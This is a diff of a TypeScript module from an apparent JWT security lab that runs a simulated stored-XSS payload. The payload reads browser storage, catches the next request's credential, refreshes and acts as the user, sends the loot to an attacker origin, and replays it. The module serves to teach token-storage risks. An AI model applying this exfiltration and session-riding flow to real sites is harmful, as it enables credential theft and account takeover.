@@ -1,50 +1,55 @@
-import type { CredentialMode } from '@jwt-lab/shared';
-import type { LabApi, LabResult, Loot, Replay } from './lab-api';
-import { describePath, findTokens, readEverythingAScriptCan, rideTheSession, type FoundToken, type SessionRide } from './xss-payload';
+import type { LabRequests, LabResult, Loot, Replay } from './api/lab-requests';
+import {
+  actFromThePage,
+  catchNextRequest,
+  findTokens,
+  readEverythingAScriptCan,
+  refreshAsThePage,
+  type CaughtRequest,
+  type FoundToken,
+  type ScriptRequest,
+  type StorageLoot,
+} from './xss-payload';
 
 /** One run of the payload, as the lab shows it. */
 export interface XssOutcome {
-  /** The storage mode the page was in when the payload ran. */
-  mode: CredentialMode;
   attacker: string;
   /** What the collector received, from its own answer: exactly what left the page. */
   loot: Loot;
+  /** The storage part of it, as read in the page. */
+  storage: StorageLoot;
+  /** Every token that left the page, deduplicated, with where the script got it first. */
   tokens: FoundToken[];
-  /** Where the CSRF token of cookie mode was found, if it was. */
-  csrfTokenAt: string | null;
-  /** Only when nothing usable was stolen: the script then acts from inside the page instead. */
-  ride: { result: SessionRide; forwarded: LabResult<Loot> } | null;
+  caught: CaughtRequest | null;
+  refreshed: ScriptRequest;
+  acted: ScriptRequest;
+  /** The collector's record of what acting from the page returned. */
+  actedLoot: LabResult<Loot>;
   replay: LabResult<Replay>;
 }
 
 /**
- * What a stored XSS would do here: take everything readable, send it home, and, finding no token,
- * ride the session from inside the page. Then the attacker replays what it got from its own server.
+ * What a stored XSS would do here: take everything readable, catch the credential of the page's
+ * next request, refresh as the page would, act as the user from the page, send all of it home,
+ * and let the attacker replay what it got from its own server.
  */
-export async function runXssPayload(api: LabApi, mode: CredentialMode): Promise<LabResult<XssOutcome>> {
-  const attacker = await api.attackerOrigin();
+export async function runXssPayload(lab: LabRequests, nudge: () => Promise<unknown>): Promise<LabResult<XssOutcome>> {
+  const attacker = await lab.attackerOrigin();
   if (!attacker.ok) return attacker;
-  const sent = await api.sendHome(attacker.value, 'storage', readEverythingAScriptCan());
+  const storage = await readEverythingAScriptCan();
+  const caught = await catchNextRequest(nudge);
+  const refreshed = await refreshAsThePage(storage);
+  const sent = await lab.sendHome(attacker.value, 'storage', { ...storage, caught, refreshed: { request: refreshed.request, status: refreshed.status, answer: refreshed.answer } });
   if (!sent.ok) return sent;
-  const loot = sent.value;
-  const tokens = findTokens(loot.data);
-  let ride: XssOutcome['ride'] = null;
-  if (tokens.length === 0) {
-    const result = await rideTheSession();
-    ride = { result, forwarded: await api.sendHome(attacker.value, 'session-ride', result) };
-  }
-  const replay = await api.replay(attacker.value, loot.id);
-  return { ok: true, value: { mode, attacker: attacker.value, loot, tokens, csrfTokenAt: findCsrfToken(loot.data), ride, replay } };
+  const acted = await actFromThePage(storage, caught, refreshed);
+  const actedLoot = await lab.sendHome(attacker.value, 'session-ride', acted);
+  const replay = await lab.replay(attacker.value, sent.value.id);
+  return { ok: true, value: { attacker: attacker.value, loot: sent.value, storage, tokens: distinctTokens(sent.value.data), caught, refreshed, acted, actedLoot, replay } };
 }
 
-/** Cookie mode keeps its CSRF token in a JSON record in storage; an attacker would find it too. */
-function findCsrfToken(data: Record<string, unknown>): string | null {
-  for (const area of ['localStorage', 'sessionStorage']) {
-    const entries = data[area];
-    if (typeof entries !== 'object' || entries === null) continue;
-    for (const [key, value] of Object.entries(entries)) {
-      if (typeof value === 'string' && /"csrfToken"\s*:\s*"[^"]+"/.test(value)) return describePath([area, key]);
-    }
-  }
-  return null;
+/** Tokens by value: the same access token read from storage and caught on the wire is one token. */
+export function distinctTokens(data: unknown): FoundToken[] {
+  const seen = new Map<string, FoundToken>();
+  for (const token of findTokens(data)) if (!seen.has(token.value)) seen.set(token.value, token);
+  return [...seen.values()];
 }
